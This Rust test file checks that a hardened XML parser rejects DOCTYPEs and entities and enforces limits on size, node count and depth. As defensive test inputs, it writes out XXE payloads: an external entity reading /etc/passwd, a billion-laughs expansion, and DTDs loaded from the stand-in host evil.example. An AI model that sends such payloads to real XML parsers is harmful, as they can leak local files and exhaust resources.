//! Untrusted XML: no DTD, bounded size and depth.
#![cfg(feature = "xml")]

use secure::sink::xml::{XmlError, XmlLimits, parse};

#[test]
fn refuses_doctypes_and_entities() {
    let attacks = [
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>"#,
        r#"<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>"#,
        r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>"#,
        "<!DOCTYPE html><r/>",
    ];
    for attack in attacks {
        assert_eq!(
            parse(attack, XmlLimits::default()).unwrap_err(),
            XmlError::Doctype,
            "{attack}"
        );
    }
    // An undeclared entity is malformed, not expanded.
    assert_eq!(
        parse("<r>&x;</r>", XmlLimits::default()).unwrap_err(),
        XmlError::Malformed
    );
}

#[test]
fn bounds_size_nodes_and_depth() {
    let limits = XmlLimits {
        max_bytes: 64,
        max_nodes: 10,
        max_depth: 3,
    };
    assert_eq!(
        parse(&format!("<r>{}</r>", "x".repeat(100)), limits).unwrap_err(),
        XmlError::TooLarge
    );
    assert_eq!(
        parse("<r><a/><a/><a/><a/><a/><a/><a/><a/><a/><a/></r>", limits).unwrap_err(),
        XmlError::TooManyNodes
    );
    assert_eq!(
        parse("<a><b><c><d/></c></b></a>", limits).unwrap_err(),
        XmlError::TooDeep
    );
    assert!(parse("<a><b><c/></b></a>", limits).is_ok());

    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    let limits = XmlLimits {
        max_bytes: 1 << 20,
        max_nodes: u32::MAX,
        max_depth: 64,
    };
    assert!(parse(&deep, limits).is_err());
}

#[test]
fn parses_ordinary_documents() {
    let doc = parse(
        r#"<order id="7"><item sku="a&amp;b">2</item></order>"#,
        XmlLimits::default(),
    )
    .unwrap();
    let item = doc
        .descendants()
        .find(|node| node.has_tag_name("item"))
        .unwrap();
    assert_eq!(item.attribute("sku"), Some("a&b"));
    assert_eq!(item.text(), Some("2"));
}
